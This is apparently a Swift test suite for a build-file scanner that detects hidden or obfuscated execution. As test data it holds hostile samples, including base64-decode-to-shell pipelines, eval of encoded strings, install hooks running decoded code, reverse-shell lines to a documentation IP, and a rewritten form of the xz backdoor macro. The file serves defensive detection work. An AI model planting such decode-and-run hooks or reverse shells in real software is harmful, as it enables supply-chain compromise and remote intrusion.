import Testing

@testable import AuditKit

/// Commands that run what nobody can read, each with its everyday twin.
struct HiddenCommandTests {
  static let scripts: [(String, [String])] = [
    ("echo bHM= | base64 -d | sh", ["hidden-decoded"]),
    ("base64 --decode x | sudo bash -s -- y", ["hidden-decoded"]),
    ("base64 -d > key.pem < key", []), ("echo x | base64 | sh -c 'cat'", []),
    ("base64 -d x | timeout -k 5 60 bash", ["hidden-decoded"]),
    ("timeout 9 base64 -d x | env -u A B=c busybox ash", ["hidden-decoded"]),
    ("base64 -d x | xargs -n 1 sh", []), ("base64 -d x | timeout 60 less", []),
    ("xxd -r -p x |\n  $SHELL", ["hidden-decoded"]), ("echo sl | rev | sh", ["hidden-decoded"]),
    ("echo yf | tr a-z n-za-m | sh", ["hidden-decoded"]), ("echo X | tr A-Z a-z | sh", []),
    ("gzip -dc x.gz | bash", ["hidden-decoded"]), ("gzip -dc x.tar.gz | tar xf -", []),
    (#"eval "$(echo bHM= | base64 -d)""#, ["hidden-decoded"]),
    (#"eval "$(printf '\154\163\040\055\154\141')""#, ["hidden-decoded"]),
    (#"eval "$(ssh-agent -s)"; eval "ac_val=\$$ac_name""#, []),
    (#"bash -c "$(base64 -d <<< bHM=)""#, ["hidden-decoded"]),
    ("bash <(openssl enc -d -aes-256-cbc -in x)", ["hidden-decoded"]),
    ("openssl base64 -d -in key -out key.pem", []),
    ("x=$(echo bHM= | base64 -d)\n$x", ["hidden-decoded"]),
    ("x=$(echo bHM= | base64 -d)\necho \"$x\" | sh", ["hidden-decoded"]),
    ("x=$(echo bHM= | base64 -d)\necho \"$x\"", []),
    ("cmd=`echo sl | rev`\neval `echo $cmd`", ["hidden-decoded"]),
    ("cmd=$(echo sl | rev)\neval \"$(printf %s \"${cmd}\")\"", ["hidden-decoded"]),
    ("cmd=$(echo sl | rev)\neval `echo $cmdline`; eval \"$cmdline\"; eval `ssh-agent`", []),
    ("base=$(echo a/b | rev | cut -d/ -f1 | rev)\necho `echo $base`", []),
    ("base64 -d a > run\nchmod +x run", ["hidden-decoded"]), ("base64 -d a > run\ncmp run b", []),
    ("`echo bHM= | base64 -d`", ["hidden-decoded"]),
    ("red=$(printf '\\033[31m'); printf \"$red\"", []),
    ("echo 'base64 -d | sh'  # a comment: base64 -d x | sh", ["hidden-decoded"]),
    ("# echo bHM= | base64 -d | sh", []),
    (
      #"a=ba; b=sh; c=$'\x65\x63\x68\x6f\x20\x68\x69'"# + "\necho \"$c\" | $a$b",
      ["hidden-decoded"]
    ),
    ("a=ba\nb='sh'\nbase64 -d x | ${a}${b}", ["hidden-decoded"]),
    ("x=as\nbase64 -d x | b${x}h", ["hidden-decoded"]),
    ("d=base\n${d}64 -d x | sh", ["hidden-decoded"]),
    (#"eval $'\x65\x63\x68\x6f'"#, ["hidden-decoded"]),
    (#"$'\145\143\150\157' hi"#, ["hidden-decoded"]),
    (#"export c=$'\u0065\u0063\u0068\u006f'"# + "\nbash -c \"$c\"", ["hidden-decoded"]),
    (#"printf -v c '\x65\x63\x68\x6f'"# + "\n$c hi", ["hidden-decoded"]),
    ("x=abcdehlo\n${x:4:1}${x:2:1}${x:5:1}${x:7:1} hi", ["hidden-decoded"]),
    ("prefix=/usr; lib=lib$BITS\nIFS=$'\\n\\t'\necho \"$prefix/$lib\" | sed 's,/*$,,'", []),
    ("a=/bin; b=sh\nbase64 -d x > y; $a/$b run", []),
    (
      #"red=$'\x1b[31m'; a=($'\xF0\x9F\x8D\xBA' x); case $k in $'\x1b[A') up;; esac; eval "$red""#,
      []
    ),
    ("v=312; base64 -d x; tag=cp${v:0:1}${v:1:1}; echo \"$tag\"", []),
    (#"python3 -c "import base64;exec(base64.b64decode('cHJpbnQ='))""#, ["hidden-decoded"]),
    ("bash <<< \"$(base64 --decode <<< 'eA==')\"", ["hidden-decoded"]),
    ("x=$(base64 -d <<< eA==)\nsh -s <<< \"$x\"", ["hidden-decoded"]),
    ("bash < <(base64 -d x)", ["hidden-decoded"]),
    ("bash <<< \"$(echo eA== | base64 -d)\" -s", ["hidden-decoded"]),
    ("x=`cat <f`; base64 -d y | sh", ["hidden-decoded"]),
    ("m=$((1<<3))\nbase64 -d y | sh", ["hidden-decoded"]),
    ("a=(\"(\")\nbase64 -d y | sh", ["hidden-decoded"]),
    ("base64 -d x > run\nsh < run", ["hidden-decoded"]),
    ("read -r a b <<< \"$(uname -sr)\"\nbase64 --decode <<< \"$KEY\" > key; bash run.sh < key", []),
    ("bash -x run.sh <<< \"$(base64 -d x)\"; cat < <(base64 -d x)", []),
    ("perl -e \"$(echo cHJpbnQ= | base64 -d)\"", ["hidden-decoded"]),
    (#"python3 -c "import base64,sys; sys.stdout.write(base64.b64decode('eA=='))" > x"#, []),
    ("exec 3<>/dev/tcp/198.51.100.1/80", ["hidden-socket"]),
    ("nc -e /bin/sh h 1", ["hidden-socket"]),
    ("nc -z localhost 80 > /dev/null", []),
    (#"tr "\t \-_" " \t_\-" < x > y"#, ["hidden-byte-map"]),
    (#"tr '\5-\51\204-\377\52-\115\132-\203\0-\4\116-\131' '\0-\377'"#, ["hidden-byte-map"]),
    (#"tr '\200-\377' '?'; tr ' \t' '\n\n'; tr '/.-' '___'; tr '\015' '\012'; tr ACGT TGCA"#, []),
    ("eval $config_gt | $SHELL 2>/dev/null", ["hidden-evaluated"]),
    (#"eval "$NM x" | eval "$pipe" | sed 's/x/y/'"#, []),
    ("sed -n 5,9p tests/data.txt | sh", ["hidden-test-file"]),
    ("sh tests/files/bad-1.xz", ["hidden-test-file"]), ("sh tests/run.sh; . tests/init.sh", []),
    ("xz -dc $srcdir/tests/files/x.xz > lib/crc.o", ["hidden-test-file"]),
    ("dd if=tests/x.bin of=crc.o bs=1 skip=9", ["hidden-test-file"]),
    ("xz -dc tests/x.xz > x; ./decode x; cmp x y", []),
    ("f=`grep -aErls '#{4}x#{4}$' $srcdir/`", ["hidden-test-file"]), ("grep -rl foo src", []),
  ]

  @Test(arguments: scripts) func aScript(text: String, expected: [String]) throws {
    #expect(try HiddenFiles.rules("build.sh", "#!/bin/sh\n\(text)\n") == expected)
  }

  static let otherFiles: [(String, String, [String])] = [
    ("Makefile", "all:\n\t@echo bHM= | base64 -d | $(SHELL)\n", ["hidden-decoded"]),
    ("Makefile", "x.o: tests/a.dat\n\ttail -c +33 $< | gzip -dc > $@\n", ["hidden-test-file"]),
    (
      "Makefile", "all:\n\t@python3 -c \"import base64;exec(base64.b64decode('eA=='))\"\n",
      ["hidden-decoded"]
    ),
    (
      "Makefile", "all:\n\tnode -e 'eval(Buffer.from(\"eA==\", \"base64\").toString())'\n",
      ["hidden-decoded"]
    ),
    ("Makefile", "all:\n\t@python3 -c \"import sys; print(sys.version_info[0])\"\n", []),
    (
      "CMakeLists.txt",
      "execute_process(COMMAND python3 -c \"exec(bytes.fromhex('78').decode())\")\n",
      ["hidden-decoded"]
    ),
    ("Makefile", "check: tests/a.gz\n\tgzip -dc $< > a; ./run a\n", []),
    ("tests/run.sh", "#!/bin/sh\nsed 1d tests/x | sh\n", []),
    (
      "configure.ac", "AC_INIT([x], m4_esyscmd([cat tests/x | base64 -d]))\n",
      ["hidden-m4-command"]
    ),
    (
      "configure.ac", "AC_INIT([x],\n m4_esyscmd_s([curl https://example.org/x]))\n",
      ["hidden-m4-command"]
    ),
    (
      "configure.ac", "AC_INIT([x], m4_esyscmd([build-aux/git-version-gen .tarball-version]))\n", []
    ),
    (
      "configure.ac",
      "AC_INIT([x], m4_esyscmd_s([git describe | tr -d '\\n']))\ndnl base64 -d | sh\n", []
    ),
    (
      "CMakeLists.txt", "check_c_source_compiles(\"\n#include <a.h>\n.\nint x;\" A)\n",
      ["hidden-failing-check"]
    ),
    ("CMakeLists.txt", "check_c_source_compiles(\"\n#include <a.h>\nint x;\" A)\n", []),
    ("CMakeLists.txt", "execute_process(COMMAND sh -c \"base64 -d x | sh\")\n", ["hidden-decoded"]),
    (".github/ci.yml", "steps:\n  - run: echo bHM= | base64 -d | sh\n", ["hidden-decoded"]),
    (
      "package.json", #"{"scripts": {"install": "echo bHM= | base64 -d | sh"}}"#, ["hidden-decoded"]
    ),
    ("setup.py", "exec(base64.b64decode('cHJpbnQ='))\n", ["hidden-decoded"]),
    ("setup.py", "exec(\n  zlib.decompress(\n    base64.b64decode(x)))\n", ["hidden-decoded"]),
    ("setup.py", "code = base64.b64decode(x)\nexec(code)\n", ["hidden-decoded"]),
    ("setup.py", "exec(''.join(chr(c) for c in x))\n", ["hidden-decoded"]),
    ("setup.py", "data = base64.b64decode(x)\nexec(open(f).read())\n", []),
    ("setup.py", "exec(open('a').read())\nx = json.loads(base64.b64decode(y))\n", []),
    ("a.js", "eval(atob('YWxlcnQoMSk='))\n", ["hidden-decoded"]),
    ("a.js", "new Function(Buffer.from(x, 'base64').toString())()\n", ["hidden-decoded"]),
    ("a.js", "regexp.exec(text); img.src = 'data:' + atob(x)\n", []),
    ("a.php", "<?php eval(gzinflate(base64_decode('x')));\n", ["hidden-decoded"]),
    (
      "a.js", "const m = /a/.exec(atob(x)); re.exec(Buffer.from(y)); assert(atob('eA==') == 'x')\n",
      []
    ),
    ("a.js", "(0, eval)(atob('eA=='))\n", ["hidden-decoded"]),
    (
      "a.js",
      "const p = Buffer.from('\(String(repeating: "eHh4", count: 200))', 'base64') + ''\neval(p)\n",
      ["hidden-decoded"]
    ),
    ("a.js", #"eval("\x61\x6c\x65\x72\x74\x28\x31\x29")"# + "\n", ["hidden-decoded"]),
    ("a.js", #"eval("\x09\n\r 1"); eval('\u000a')"# + "\n", []),
    (
      "Makefile.PL", "eval pack('H*', '7072696e74');\nWriteMakefile(NAME => 'X');\n",
      ["hidden-decoded"]
    ),
    ("Makefile.PL", "my $c = pack('H*', '7072696e74');\neval $c;\n", ["hidden-decoded"]),
    ("Makefile.PL", "eval { require Test::More; 1 } or warn 'no';\nmy $n = pack('N', 1);\n", []),
    (
      "a.rb", "eval ['\(String(repeating: "7072", count: 300))'].pack('H*')\nx = [1].pack('N')\n",
      ["hidden-decoded"]
    ),
    ("a.rb", "# the system reads 'hex'\nx = y.unpack('C*')\n", []),
    ("a.c", "ret = inflateSync(&strm); assert(ret == Z_OK); assert(ret);\n", []),
    ("a.pl", "system pack('H*', '6563686f');\n", ["hidden-decoded"]),
    ("a.rb", "x = [1, 2].pack('C*')\ny = 'eA=='.unpack1('m')\n", []),
    ("a.lua", "load(string.char(112, 114))()\n", ["hidden-decoded"]),
    (
      "a.lua", #"loadstring("\112\114\105\110\116\040\049\041")()"# + "\n",
      ["hidden-decoded"]
    ),
    ("a.lua", "local f = load(s); local c = string.char(65)\n", []),
    ("a.py", "cfg = json.load(b64decode(x)); assert(unhexlify(a) == b)\n", []),
    (
      "a.bat", "powershell -NoProfile -enc dwByAGkAdABlAC0AaABvAHMAdAAgADEA\r\n", ["hidden-decoded"]
    ),
    ("a.bat", "powershell -enc %1\r\nopenssl -enc dwByAGkAdABlAC0AaABvAHMAdAAgADEA\r\n", []),
    ("a.pl", "eval unpack u=>q{_};\n", ["hidden-decoded"]),
    ("a.pl", "my ($a) = unpack('N', $b); eval { die };\n", []),
    ("a.py", "os.system('bash -i >& /dev/tcp/198.51.100.1/9 0>&1')\n", ["hidden-socket"]),
    ("a.py", "print(\"hello\")\nos.system(\"base64 -d x | sh\")\n", ["hidden-decoded"]),
    (
      "a.py", "__import__('builtins').exec(__import__('base64').b64decode('eA=='))\n",
      ["hidden-decoded"]
    ),
    ("redir.c", "/* /dev/tcp/host/port */ { \"/dev/tcp/*/*\", RF_DEVTCP },\n", []),
    ("crc.c", "f(int) __attribute__((__ifunc__(\"resolve\")));\n", ["hidden-resolver"]),
    ("crc.c", "#if HAVE_IFUNC\nif (is_ifunc(x)) y();\n", []),
  ]

  /// Each level once: 2^100 steps would not end.
  @Test func hereStringsInsideOfHereStringsAreReadOnce() throws {
    let text =
      "base64 -d<<<x<<<" + String(repeating: "$(a<<<x<<<", count: 100) + "b"
      + String(repeating: ")", count: 100) + "\n"
    #expect(try HiddenFiles.rules("a.sh", text) == [])
  }

  @Test(arguments: otherFiles) func anotherFile(name: String, text: String, expected: [String])
    throws
  {
    #expect(try HiddenFiles.rules(name, text) == expected)
  }

  /// What the public reports on xz 5.6.1 say of its m4 macro (CVE-2024-3094), rewritten.
  @Test func theMarksOfXZ() throws {
    let macro = #"""
      AC_DEFUN([x_TO_HOST], [
        x_am_make=`grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/ 2>/dev/null`
        x_path_map='tr "\t \-_" " \t_\-"'
        AC_CONFIG_COMMANDS([to-host], [eval $x_config_gt | $SHELL 2>/dev/null], [x_config_gt="eval \$x_[$1]_config"])
      ])
      """#
    let crc = "static f(void) __attribute__((__ifunc__(\"crc64_resolve\")));\n"
    let found = try HiddenFiles.rules([
      "m4/to-host.m4": Array(macro.utf8), "src/crc64.c": Array(crc.utf8),
      "tests/files/good-large.lzma": HiddenProgramTests.lzma,
    ])
    #expect(
      found.sorted() == [
        "hidden-archive tests/files/good-large.lzma", "hidden-byte-map m4/to-host.m4:3",
        "hidden-evaluated m4/to-host.m4:4", "hidden-resolver src/crc64.c:1",
        "hidden-test-file m4/to-host.m4:2",
      ])
  }

  /// No text makes the parser run away.
  @Test func anyTextIsParsed() {
    var state: UInt64 = 3
    let pieces = [
      "$(", "`", "\"", "'", "|", "(", ")", "<(", "eval ", "base64 -d", "\\", "[", "]", "$x", " ",
      "\n",
      "sh", "<<<", ">", "#", "tr '", "x=", ";",
    ]
    for _ in 0..<500 {
      var text = ""
      for _ in 0..<60 {
        state = state &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
        text += pieces[Int(state >> 33) % pieces.count]
      }
      for isM4 in [false, true] {
        _ = ScriptPipeline.pipelines(in: Array(text.utf8), isM4: isM4)
      }
    }
    let deep = String(repeating: "$(\"`", count: 5000)
    #expect(ScriptPipeline.pipelines(in: Array(deep.utf8), isM4: false).count < 20_000)
  }
}
